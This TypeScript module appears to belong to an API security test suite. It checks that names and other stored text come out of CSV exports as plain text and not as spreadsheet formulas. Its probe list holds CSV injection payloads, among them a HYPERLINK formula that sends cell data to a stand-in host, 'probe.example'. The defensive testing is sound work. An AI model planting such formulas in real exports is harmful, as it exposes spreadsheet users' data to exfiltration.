/**
 * What somebody stores as a name is a text in the file that others open in a spreadsheet. Rows are made whose texts begin
 * like formulas or try to break out of their cell; then their list is exported, and read as a spreadsheet reads it.
 */
import { randomBytes } from 'node:crypto';
import type { OperationPolicy, Policy } from '../../policy/types.ts';
import { takeFile } from '../checks/files.ts';
import { oncePerWorld } from '../checks/once-per-world.ts';
import { succeeded } from '../checks/workshop.ts';
import type { World } from '../checks/world.ts';
import { isFormula, parseCsv } from '../oracle/csv.ts';
import { errorProblems } from '../oracle/denied.ts';
import { listProblems } from '../oracle/served.ts';
import { lanes, stewardOf } from '../plan/cells.ts';
import type { Call } from '../probe/client.ts';
import { withMembers } from '../probe/malformations.ts';
import { Blocked, type Problem } from '../record/problem.ts';
import type { Kind, TenantCell } from './kind.ts';

/** Texts by what they try; `#` stands for a word by which the row is found again. */
const TEXTS = {
  plain: ['a plain text', 'Probe #'],
  equals: ['a text that begins with =', '=HYPERLINK("//probe.example/?"&A1,"#")'],
  plus: ['a text that begins with +', '+1+1 #'],
  minus: ['a text that begins with -', '-1+1 #'],
  at: ['a text that begins with @', '@SUM(1+1) #'],
  wide: ['a text that begins with a wide =', '\uFF1D1+1 #'],
  tab: ['a text that begins with a tab', '\t=1+1 #'],
  return: ['a text that begins with a carriage return', '\r=1+1 #'],
  quote: ['a text that closes its cell with a quote', '#",=1+1,"#'],
  line: ['a text that begins a line of its own', '#\n=1+1'],
} as const satisfies Record<string, readonly [says: string, text: string]>;
type Try = keyof typeof TEXTS;

type FormulaCell = TenantCell & { resource: string; rows: string; tries: Try | 'head' | 'columns' };

interface Exported {
  /** The word of each text. */
  words: ReadonlyMap<Try, string>;
  /** What the text was answered where it was refused. */
  refused: ReadonlyMap<Try, Call>;
  file: Call;
  table: string[][];
}

const exported = oncePerWorld<Exported>();

/** The operation that makes a row of the file. */
function makerOf(world: World, { rows }: FormulaCell): OperationPolicy {
  const [name = ''] = world.policy.resources[rows]?.make ?? [];
  return world.operation(name);
}

/** Makes one row of the valid body, with some fields changed. */
async function storeWith(world: World, cell: FormulaCell, changes: object): Promise<Call> {
  const operation = makerOf(world, cell);
  const owner = world.workshop.ownerOf(cell.rows, cell.tenant);
  const client = await world.clientOf(owner);
  const shape = world.shape(operation, {}, cell.tenant);
  const call = await client.send(operation.method, withMembers(shape, changes));
  if (succeeded(call)) await world.workshop.keep(cell.rows, cell.tenant, owner, call);
  return call;
}

/** Makes one row with the text: in every field that takes a text, or else in those alone that hold one of the run's own. */
async function store(world: World, cell: FormulaCell, text: string): Promise<Call> {
  const template = Object.entries(makerOf(world, cell).body ?? {});
  const within = (fits: (value: string) => boolean): Promise<Call> => {
    const texts = template.filter(([, value]) => typeof value === 'string' && fits(value));
    return storeWith(world, cell, Object.fromEntries(texts.map(([field]) => [field, text])));
  };
  const everywhere = await within(() => true);
  return succeeded(everywhere) ? everywhere : within((value) => value.includes('{{unique}}'));
}

async function take(world: World, cell: FormulaCell): Promise<Call> {
  const owner = world.workshop.ownerOf(cell.resource, cell.tenant);
  const at = await world.workshop.fresh(cell.resource, cell.tenant, owner);
  return takeFile(world, cell.resource, at, { owner, tenant: cell.tenant });
}

async function exportAll(world: World, cell: FormulaCell): Promise<Exported> {
  const words = new Map<Try, string>();
  const refused = new Map<Try, Call>();
  for (const [tries, [, text]] of Object.entries(TEXTS) as [Try, readonly [string, string]][]) {
    const word = `${world.mark}${randomBytes(4).toString('hex')}`;
    words.set(tries, word);
    const call = await store(world, cell, text.replaceAll('#', word));
    if (!succeeded(call)) refused.set(tries, call);
  }
  const file = await take(world, cell);
  return { words, refused, file, table: parseCsv(file.answer.text) };
}

const exportOf = (world: World, cell: FormulaCell): Promise<Exported> =>
  exported(world, `${cell.resource}/${cell.tenant}`, () => exportAll(world, cell));

/** The rows from the first to the last one that holds the word: a text that breaks out makes several of one. */
function rowsWith(table: readonly string[][], word: string): string[][] {
  const holds = table.map((row) => row.some((value) => value.includes(word)));
  const first = holds.indexOf(true);
  return first < 0 ? [] : table.slice(first, holds.lastIndexOf(true) + 1);
}

/** A value that a column takes: that the field is there is known only where something is stored by it. */
async function takesAnything(
  world: World,
  cell: FormulaCell,
  column: string,
  held: string[],
): Promise<boolean> {
  if (makerOf(world, cell).body?.[column] !== undefined) return true;
  const texts = [
    ...held.slice(0, 1),
    world.mark,
    `https://${world.mark}.example/`,
    `${world.mark}@probe.example`,
  ];
  for (const value of [...texts, ...held.slice(0, 1).map(Number).filter(Number.isFinite), 1]) {
    const call = await storeWith(world, cell, { [column]: value });
    const kept = (call.answer.json as Record<string, unknown> | undefined)?.[column];
    if (succeeded(call) && kept === value) return true;
  }
  return false;
}

/**
 * Every column of the file was tried: those that no text of the policy came into are sent a formula by their own name, and
 * it is refused by a field that takes something else, or is a text in another file.
 */
async function everyColumn(world: World, cell: FormulaCell): Promise<Problem[]> {
  const { words, file, table } = await exportOf(world, cell);
  const [head = [], ...rows] = table;
  const seen = [...words.values()].flatMap((word) => rowsWith(table, word).map((row) => ({ row, word })));
  const columns = head.flatMap((column, at) =>
    seen.some(({ row, word }) => row[at]?.includes(word) === true) ? [] : [{ column, at }],
  );
  const stored: { column: string; at: number; word: string }[] = [];
  const untried: string[] = [];
  for (const { column, at } of columns) {
    const word = `${world.mark}${randomBytes(4).toString('hex')}`;
    const call = await storeWith(world, cell, { [column]: `=1+1 ${word}` });
    const held = rows.map((row) => row[at] ?? '').filter((value) => value !== '');
    if (succeeded(call)) stored.push({ column, at, word });
    else if (!(await takesAnything(world, cell, column, held))) untried.push(column);
  }
  const again = stored.length === 0 ? [] : parseCsv((await take(world, cell)).answer.text);
  const problems = stored.flatMap(({ column, at, word }): Problem[] => {
    const [row] = rowsWith(again, word);
    const value = row?.[at];
    if (value?.includes(word) !== true) untried.push(column);
    return value !== undefined && isFormula(value)
      ? [
          {
            request: file.request,
            expected: `a text that begins with =, as a text, in the column ${column}`,
            seen: `the cell ${JSON.stringify(value.replaceAll(word, '…').slice(0, 60))}`,
          },
        ]
      : [];
  });
  if (problems.length === 0 && untried.length > 0)
    throw new Blocked(
      `nothing was tried in these columns of ${cell.resource}: ${untried.join(', ')}; give the operation that makes ${cell.rows} a body with them`,
    );
  return problems;
}

async function staysText(world: World, cell: FormulaCell): Promise<Problem[]> {
  const { words, refused, file, table } = await exportOf(world, cell);
  const { request } = file;
  const [head = []] = table;
  if (rowsWith(table, words.get('plain') ?? '').length === 0)
    throw new Blocked(
      `the export of ${cell.resource} does not hold a row of ${cell.rows} that was made for it`,
    );
  if (cell.tries === 'head')
    return listProblems(file.answer).map((seen) => ({
      rule: 'file-served-as-page',
      request,
      expected: 'comma-separated values to be saved',
      seen,
    }));
  if (cell.tries === 'columns') return everyColumn(world, cell);
  const refusal = refused.get(cell.tries);
  // What is not stored cannot be exported; that it is refused must be as plain as any refusal.
  if (refusal) return errorProblems(refusal, world.policy.errors);
  const word = words.get(cell.tries) ?? '';
  const rows = rowsWith(table, word);
  if (rows.length === 0) throw new Blocked(`the export does not hold the row with ${TEXTS[cell.tries][0]}`);
  const next = table.slice(table.indexOf(rows.at(-1) ?? []) + 1).slice(0, 1);
  const formulas = [...rows, ...next].flat().filter(isFormula);
  const broken = rows.filter((row) => row.length !== head.length);
  return [
    ...(formulas.length === 0
      ? []
      : [
          {
            request,
            expected: `${TEXTS[cell.tries][0]}, as a text`,
            seen: `the cell ${JSON.stringify(formulas[0]?.replaceAll(word, '…').slice(0, 60))}`,
          },
        ]),
    ...(broken.length === 0
      ? []
      : [
          {
            request,
            expected: `${head.length} cells in a row`,
            seen: `${broken[0]?.length ?? 0} in the row with ${TEXTS[cell.tries][0]}`,
          },
        ]),
  ];
}

function titleOf(tries: FormulaCell['tries'], resource: string): string {
  if (tries === 'head') return `the file of ${resource} is one to be saved`;
  if (tries === 'columns') return `every column of the file of ${resource} was tried with a formula`;
  return `${TEXTS[tries][0]} is a text in the file of ${resource}`;
}

/** Resources whose file is a list of rows that one request makes. */
const listing = (policy: Policy): [resource: string, rows: string][] =>
  Object.entries(policy.resources).flatMap(([resource, { file }]) => {
    const made = file?.rows === undefined ? [] : (policy.resources[file.rows]?.make ?? []);
    return file?.rows !== undefined && policy.operations[made[0] ?? '']?.body ? [[resource, file.rows]] : [];
  });

export const exportedFormulas: Kind<FormulaCell> = {
  plan: (policy) =>
    listing(policy).flatMap(([resource, rows]) => {
      const [tenant] = Object.keys(policy.tenants);
      const operation = policy.resources[resource]?.file?.operation ?? '';
      if (tenant === undefined) return [];
      const tries = [...(Object.keys(TEXTS) as Try[]), 'head', 'columns'] as const;
      return lanes<FormulaCell>(
        {
          title: `What is stored as a text is a text in the file of ${resource}`,
          gate: 'isolation',
          rule: 'formula-in-export',
          also: ['file-served-as-page'],
          feature: resource,
        },
        tries.map((one) => ({
          id: `isolation/export/${resource}/${one}`,
          title: titleOf(one, resource),
          operation,
          actor: stewardOf(policy, tenant) ?? tenant,
          tenant,
          resource,
          rows,
          tries: one,
        })),
      );
    }),
  judge: staysText,
};
